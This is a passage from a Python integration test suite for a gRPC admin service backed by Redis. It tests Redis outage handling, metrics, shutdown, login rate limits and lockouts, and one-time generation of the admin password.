        self.ctl.ok("config", "set", "public_name=phones.example.org", "icp.xml_listen_port=4446")
        self.assertEqual(self.ctl.json("hash", "show")["download_path"],
                         "https://phones.example.org:4446/0123456789abcdef0123456789abcdef/ftp_67xxi")

    # -- Redis failure ----------------------------------------------------------------------

    def test_redis_killed_mid_request(self):
        self.login()
        csv_path = os.path.join(self.tmp, "first.csv")
        with open(csv_path, "w") as f:
            f.write(device_csv(20))
        self.ctl.ok("device", "import", csv_path)
        with open(csv_path, "w") as f:
            f.write(device_csv(50, start=100))

        # Keep Redis busy so that the import is in flight when Redis dies.
        def block():
            try:
                self.redis.cmd("DEBUG", "SLEEP", "5")
            except OSError:
                pass
        blocker = threading.Thread(target=block)
        blocker.start()
        time.sleep(0.3)
        started = time.monotonic()
        importer = subprocess.Popen(
            [os.path.join(rwgtest.BIN, "rwgctl"), "device", "import", csv_path],
            env=self.ctl.env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        time.sleep(0.7)
        self.assertIsNone(importer.poll(), "the import is waiting on Redis")
        self.redis.kill()
        _, err = importer.communicate(timeout=30)
        blocker.join()
        self.assertEqual(importer.returncode, 1)
        self.assertIn("UNAVAILABLE", err)
        self.assertIn(f"redis at 127.0.0.1:{self.redis.port}", err)
        self.assertLess(time.monotonic() - started, 10)

        self.assertTrue(self.control.alive(), "control keeps running without Redis")
        r = self.ctl.run("device", "list")
        self.assertIn("UNAVAILABLE", r.stderr)
        rwgtest.wait_until("health NOT_SERVING",
                           lambda: self.ctl.run("health").stdout.strip() == "NOT_SERVING")

        self.redis.start()
        rwgtest.wait_until("health SERVING",
                           lambda: self.ctl.run("health").stdout.strip() == "SERVING")
        self.assertEqual(self.device_count(), 20, "nothing of the interrupted import was written")
        self.ctl.ok("device", "import", csv_path)
        self.assertEqual(self.device_count(), 70)

    def test_health_reflection_and_metrics(self):
        services = self.ctl.ok("services").split()
        self.assertIn("rwg.admin.v1.AdminService", services)
        self.assertIn("grpc.health.v1.Health", services)
        self.assertIn("grpc.reflection.v1alpha.ServerReflection", services)
        self.ctl.run("config", "get")  # counted although refused
        metrics = urllib.request.urlopen(self.control.metrics_url, timeout=5).read().decode()
        for name in ("rwg_control_redis_up 1", "rwg_control_devices 0",
                     "# TYPE rwg_control_rpc_duration_seconds histogram",
                     "# TYPE rwg_control_rpcs_total counter",
                     'rwg_control_rpcs_total{code="UNAUTHENTICATED",method="GetConfig"} 1'):
            self.assertIn(name, metrics)

    def test_sigterm_drains_and_exits_zero(self):
        self.assertEqual(self.control.stop(), 0)
        self.assertIn("msg=terminating signal=SIGTERM", self.control.read_log())


class DualStackControl(rwgtest.Service):
    """control listening on every address, so that a test logs in from two sources:
    127.0.0.1 and ::1. Plaintext gRPC."""

    def start(self, expect_healthy=True):
        port_file = os.path.join(self.workdir, f"{self.name}.ports")
        if os.path.exists(port_file):
            os.remove(port_file)
        self.log = open(self.log_path, "ab")
        self.proc = subprocess.Popen(
            [os.path.join(rwgtest.BIN, "control"), "--grpc-listen", "[::]:0", "--metrics-listen",
             "127.0.0.1:0", "--port-file", port_file] + self.args,
            stdout=self.log, stderr=self.log)
        rwgtest.wait_until("control port file",
                           lambda: os.path.exists(port_file) or self.proc.poll() is not None)
        if self.proc.poll() is not None:
            raise AssertionError(f"control exited: {self.read_log()}")
        with open(port_file) as f:
            self.ports = json.load(f)
        return self

    def peak_memory_kib(self):
        with open(f"/proc/{self.proc.pid}/status") as f:
            return int(re.search(r"VmHWM:\s+(\d+) kB", f.read()).group(1))


class LoginLimitsTest(rwgtest.TempDirTest):
    """Password checks are bounded in number at once, and repeated failures lock the source
    (IPv4 address, IPv6 /64) or the username out for a while."""

    def start(self, *args):
        data = os.path.join(self.tmp, "redis")
        os.mkdir(data)
        self.redis = rwgtest.Redis(data).start()
        self.addCleanup(self.redis.kill)
        key = os.path.join(self.tmp, "secret.key")
        with open(key, "w") as f:
            f.write(os.urandom(32).hex())
        pw = os.path.join(self.tmp, "admin-password")
        with open(pw, "w") as f:
            f.write(ADMIN_PASSWORD)
        self.control = DualStackControl("control", self.tmp, [
            "--redis-address", f"127.0.0.1:{self.redis.port}", "--secret-key-file", key,
            "--admin-password-file", pw, *args]).start()
        self.addCleanup(self.control.stop)
        port = self.control.ports["grpc"]
        self.v4 = rwgtest.Rwgctl(f"127.0.0.1:{port}", "", os.path.join(self.tmp, "v4"))
        self.v6 = rwgtest.Rwgctl(f"[::1]:{port}", "", os.path.join(self.tmp, "v6"))
        for ctl in (self.v4, self.v6):
            ctl.env["RWG_INSECURE"] = "1"
        rwgtest.wait_until("control SERVING",
                           lambda: self.v4.run("health").stdout.strip() == "SERVING")

    def login(self, ctl, user, password):
        r = ctl.run("login", "-u", user, password=password)
        return r.stderr.strip() if r.returncode else "OK"

    def metrics(self):
        return urllib.request.urlopen(self.control.metrics_url, timeout=5).read().decode()

    def test_parallel_wrong_logins_are_bounded(self):
        self.start("--login-source-failures", "1000", "--login-user-failures", "1000")
        self.assertEqual(self.login(self.v4, "admin", ADMIN_PASSWORD), "OK")
        before = self.control.peak_memory_kib()
        procs = [subprocess.Popen([os.path.join(rwgtest.BIN, "rwgctl"), "login", "-u",
                                   f"guess{i}"],
                                  env=dict(self.v4.env, RWG_PASSWORD="wrong-password"),
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
                 for i in range(16)]
        errors = [p.communicate(timeout=60)[1].strip() for p in procs]
        busy = [e for e in errors if "RESOURCE_EXHAUSTED: busy: 2 password checks" in e]
        wrong = [e for e in errors if "UNAUTHENTICATED: wrong username or password" in e]
        self.assertEqual(len(busy) + len(wrong), 16, errors)
        self.assertGreater(len(busy), 0, "16 checks at once: the ones beyond 2 are refused")
        grown = self.control.peak_memory_kib() - before
        self.assertLess(grown, 100 * 1024, "at most two 32 MiB checks at once")
        self.assertIn(f'rwg_control_login_refusals_total{{reason="busy"}} {len(busy)}',
                      self.metrics())
        self.assertEqual(self.login(self.v4, "admin", ADMIN_PASSWORD), "OK")
        self.assertTrue(self.control.alive())

    def test_lockout_by_source_and_by_username(self):
        self.start("--login-user-failures", "3", "--login-lockout-seconds", "8")
        wrong = "UNAUTHENTICATED: wrong username or password"
        # Three failures for a name that does not exist lock that name out, from anywhere.
        for _ in range(3):
            self.assertIn(wrong, self.login(self.v4, "nobody", "guess"))
        self.assertIn("RESOURCE_EXHAUSTED: too many failed logins for this username",
                      self.login(self.v4, "nobody", "guess"))
        self.assertIn("for this username", self.login(self.v6, "nobody", "guess"))
        # Two more from 127.0.0.1 (five in all) lock that address out, the right password too.
        for _ in range(2):
            self.assertIn(wrong, self.login(self.v4, "admin", "guess"))
        locked = self.login(self.v4, "admin", ADMIN_PASSWORD)
        self.assertRegex(locked, r"RESOURCE_EXHAUSTED: too many failed logins from this "
                                 r"address; try again in \d+s")
        # The admin logs in from another address meanwhile.
        self.assertEqual(self.login(self.v6, "admin", ADMIN_PASSWORD), "OK")
        self.v6.ok("config", "get", "public_name")
        # After the back-off the address is let in again.
        rwgtest.wait_until("the lockout ends", lambda: self.login(
            self.v4, "admin", ADMIN_PASSWORD) == "OK", timeout=30)
        self.v4.ok("config", "get", "public_name")

        m = self.metrics()
        self.assertIn('rwg_control_login_lockouts_total{scope="source"} 1', m)
        self.assertIn('rwg_control_login_lockouts_total{scope="user"} 1', m)
        self.assertIn('rwg_control_login_refusals_total{reason="user_locked"} 2', m)
        self.assertRegex(m, r'rwg_control_login_refusals_total\{reason="source_locked"\} [1-9]')
        self.assertIn("rwg_control_login_failures_total 5", m)
        self.assertIn('rwg_control_login_tracked{table="user"}', m)
        self.assertNotIn(ADMIN_PASSWORD, self.control.read_log())


class FirstStartTest(rwgtest.TempDirTest):
    """Without a configured admin password, control generates one, once."""

    def test_generated_admin_password_is_shown_once(self):
        data = os.path.join(self.tmp, "redis")
        os.mkdir(data)
        redis = rwgtest.Redis(data).start()
        self.addCleanup(redis.kill)
        key = os.path.join(self.tmp, "secret.key")
        with open(key, "w") as f:
            f.write(os.urandom(32).hex())
        out = os.path.join(self.tmp, "initial-password")
        control = rwgtest.Service("control", self.tmp, [
            "--redis-address", f"127.0.0.1:{redis.port}", "--secret-key-file", key,
            "--initial-admin-password-out", out])
        old = os.umask(0)  # the worst umask: the file must still be the owner's only
        try:
            control.start()
        finally:
            os.umask(old)
        self.addCleanup(control.stop)
        rwgtest.wait_until("password file", lambda: os.path.exists(out))
        self.assertEqual(os.stat(out).st_mode & 0o777, 0o600)
        self.assertEqual(os.listdir(self.tmp).count("initial-password"), 1)
        self.assertFalse([f for f in os.listdir(self.tmp) if f.startswith("initial-password.")],
                         "no temporary file left")
        with open(out) as f:
            password = f.read().strip()
        self.assertGreaterEqual(len(password), 20)
        self.assertNotIn(password, control.read_log())
        ctl = rwgtest.Rwgctl(control.grpc_address, "", os.path.join(self.tmp, "cli"))
        ctl.env["RWG_INSECURE"] = "1"
        ctl.ok("login", password=password)

        os.remove(out)
        self.assertEqual(control.stop(), 0)
        control.start()
        ctl.env["RWG_SERVER"] = control.grpc_address
        rwgtest.wait_until("SERVING", lambda: ctl.run("health").stdout.strip() == "SERVING")
        self.assertFalse(os.path.exists(out), "no second password")
        ctl.ok("login", password=password)

    def test_an_unwritable_password_file_is_reported(self):
        data = os.path.join(self.tmp, "redis")
        os.mkdir(data)
        redis = rwgtest.Redis(data).start()
        self.addCleanup(redis.kill)
        key = os.path.join(self.tmp, "secret.key")
        with open(key, "w") as f:
            f.write(os.urandom(32).hex())
        out = os.path.join(self.tmp, "no-such-dir", "initial-password")
        control = rwgtest.Service("control", self.tmp, [
            "--redis-address", f"127.0.0.1:{redis.port}", "--secret-key-file", key,
            "--initial-admin-password-out", out]).start()
        self.addCleanup(control.stop)
        rwgtest.wait_until("the error logged",
                           lambda: "its password could not be written" in control.read_log())
        log = control.read_log()
        self.assertIn("HDEL rwg:admins <user>", log)
        self.assertIn(f"cannot write {out}", log)
        self.assertFalse(os.path.exists(os.path.dirname(out)))
        self.assertTrue(control.alive())

    def test_refuses_to_start_without_a_usable_secret_key(self):
        key = os.path.join(self.tmp, "bad.key")
        with open(key, "w") as f:
            f.write("too short")
        r = subprocess.run([os.path.join(rwgtest.BIN, "control"), "--secret-key-file", key,
                            "--grpc-listen", "127.0.0.1:0", "--metrics-listen", "127.0.0.1:0"],
                           capture_output=True, text=True, timeout=30)
        self.assertEqual(r.returncode, 2)
        self.assertIn("must hold 64 hex digits", r.stderr)
        r = subprocess.run([os.path.join(rwgtest.BIN, "control")], capture_output=True,
                           text=True, timeout=30)
        self.assertEqual(r.returncode, 2)
        self.assertIn("secret-key-file", r.stderr)


if __name__ == "__main__":
    unittest.main(verbosity=2)
